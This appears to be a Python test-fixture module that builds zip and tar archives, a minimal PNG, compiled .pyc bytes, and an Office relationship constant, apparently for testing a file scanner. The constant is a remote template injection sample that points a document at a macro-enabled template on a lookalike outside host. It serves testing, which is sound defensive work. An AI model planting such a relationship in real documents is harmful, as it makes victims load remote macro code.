"""Containers made for the tests: archives, a picture, an Office relationship, compiled Python."""

from __future__ import annotations

import importlib.util
import io
import marshal
import tarfile
import zipfile
import zlib
from collections.abc import Mapping

REMOTE_TEMPLATE = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://templates.boot-strap.io/t.dotm" TargetMode="External"/></Relationships>'
)


def zip_of(members: Mapping[str, str | bytes]) -> bytes:
    """A deflated zip with these members."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return data.getvalue()


def tar_of(members: Mapping[str, bytes], mode: str = "w") -> bytes:
    """A tar (``w:gz``, ``w:bz2`` and ``w:xz`` for compressed ones) with these members."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return data.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    """A PNG chunk."""
    return len(body).to_bytes(4) + kind + body + zlib.crc32(kind + body).to_bytes(4)


def picture(*chunks: bytes) -> bytes:
    """A PNG of one pixel with these chunks before its end."""
    header = chunk(b"IHDR", (1).to_bytes(4) + (1).to_bytes(4) + bytes([8, 0, 0, 0, 0]))
    pixels = chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + header + pixels + b"".join(chunks) + chunk(b"IEND", b"")


PICTURE = picture()


def compiled(source: str) -> bytes:
    """A ``.pyc`` of this interpreter."""
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, "a.py", "exec"))
